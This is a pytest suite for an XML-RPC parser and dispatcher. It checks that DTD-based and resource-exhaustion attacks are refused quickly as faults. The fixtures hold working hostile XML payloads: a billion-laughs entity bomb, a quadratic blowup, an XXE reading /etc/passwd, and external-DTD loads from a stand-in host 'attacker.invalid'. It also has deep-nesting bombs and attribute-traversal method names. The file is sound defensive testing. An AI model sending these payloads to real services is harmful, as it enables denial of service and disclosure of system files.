"""The attack battery at the parser and dispatcher level: every one answered quickly, as a fault."""

from __future__ import annotations

import sys
import time

import pytest

from tests.rpc.helpers import fault, request
from xrsched.rpc.dispatch import CallContext
from xrsched.rpc.faults import INVALID_REQUEST, METHOD_NOT_FOUND, ProtocolError
from xrsched.rpc.limits import RequestLimits
from xrsched.rpc.parse import parse_call

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<methodCall><methodName>echo</methodName><params><param><value>&lol9;</value></param></params></methodCall>"""

QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "' + b"x" * 50_000 + b'">]>'
    b"<methodCall><methodName>echo</methodName><params><param><value>"
    + b"&a;" * 50_000
    + b"</value></param></params></methodCall>"
)

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<methodCall><methodName>echo</methodName><params><param><value>&xxe;</value></param></params></methodCall>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.invalid/x.dtd"> %ext;]>
<methodCall><methodName>echo</methodName></methodCall>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE methodCall SYSTEM "http://attacker.invalid/evil.dtd">
<methodCall><methodName>echo</methodName></methodCall>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, QUADRATIC, XXE, XXE_PARAMETER, EXTERNAL_DTD])
def test_dtd_based_attacks_are_refused_fast(body):
    started = time.perf_counter()
    with pytest.raises(ProtocolError) as info:
        parse_call(body)
    assert time.perf_counter() - started < 10  # catches blow-ups, not speed (shared machines)
    assert info.value.code in (INVALID_REQUEST, -32700)
    assert "passwd" not in info.value.message
    assert "Forbidden" not in info.value.message


def test_dtd_attack_through_dispatcher_is_a_short_fault(dispatcher):
    code, text = fault(dispatcher.dispatch(BILLION_LAUGHS, CallContext()))
    assert code == INVALID_REQUEST
    assert len(text) < 120
    assert "lol" not in text


def _deep(levels: int) -> bytes:
    return (
        b"<methodCall><methodName>echo</methodName><params><param>"
        + b"<value><array><data>" * levels
        + b"<value>x</value>"
        + b"</data></array></value>" * levels
        + b"</param></params></methodCall>"
    )


def test_hundred_thousand_deep_nesting_is_refused_cheaply(dispatcher):
    body = _deep(100_000)
    limit = sys.getrecursionlimit()
    started = time.perf_counter()
    code, text = fault(dispatcher.dispatch(body, CallContext()))
    assert time.perf_counter() - started < 10  # catches blow-ups, not speed (shared machines)
    assert code == INVALID_REQUEST
    assert "64" in text
    assert sys.getrecursionlimit() == limit


def test_deep_structs_are_refused_too():
    body = (
        b"<methodCall><methodName>echo</methodName><params><param>" + b"<value><struct><member><name>a</name>" * 100_000
    )
    with pytest.raises(ProtocolError) as info:
        parse_call(body)
    assert info.value.code == INVALID_REQUEST


def test_depth_limit_is_exact():
    limits = RequestLimits(max_depth=64)
    _, params = parse_call(_deep(64), limits)
    assert isinstance(params[0], list)
    with pytest.raises(ProtocolError):
        parse_call(_deep(65), limits)


def test_deep_unknown_elements_are_refused_at_once():
    body = b"<methodCall>" + b"<x>" * 100_000
    with pytest.raises(ProtocolError) as info:
        parse_call(body)
    assert info.value.code == INVALID_REQUEST


def test_twenty_thousand_entry_multicall_is_refused(dispatcher, service, audit_log):
    calls = [{"methodName": "ping", "params": ["w"]}] * 20_000
    started = time.perf_counter()
    code, text = fault(dispatcher.dispatch(request("system.multicall", calls), CallContext()))
    assert time.perf_counter() - started < 10  # catches blow-ups, not speed (shared machines)
    assert code == INVALID_REQUEST
    assert "1000" in text
    assert audit_log == [("system.multicall", INVALID_REQUEST)]


def test_nested_multicall_refuses_the_whole_call(dispatcher, service, audit_log):
    calls = [
        {"methodName": "add_task", "params": ["t1"]},
        {"methodName": "system.multicall", "params": [[{"methodName": "ping", "params": ["w"]}]]},
    ]
    code, _ = fault(dispatcher.dispatch(request("system.multicall", calls), CallContext()))
    assert code == INVALID_REQUEST
    assert service.calls == []  # nothing ran
    assert audit_log == [("system.multicall", INVALID_REQUEST)]


@pytest.mark.parametrize(
    "name",
    [
        "_private",
        "__class__",
        "ping.__class__.__init__",
        "__init__.__globals__",
        "add_task.__func__",
        "system.multicall.__self__",
        "ec ho",
        "Ping",
        "system._lookup",
    ],
)
def test_no_attribute_traversal(dispatcher, name):
    code, text = fault(dispatcher.dispatch(request(name), CallContext()))
    assert code == METHOD_NOT_FOUND
    assert "no such method" in text


def test_unknown_method_name_is_truncated_and_sanitized(dispatcher, audit_log):
    name = "x\u202e\u0085" + "y" * 5000
    body = request(name)
    code, text = fault(dispatcher.dispatch(body, CallContext()))
    assert code == METHOD_NOT_FOUND
    assert "\u202e" not in text and "\u0085" not in text
    assert len(text) < 120
    assert len(audit_log[0][0]) < 120
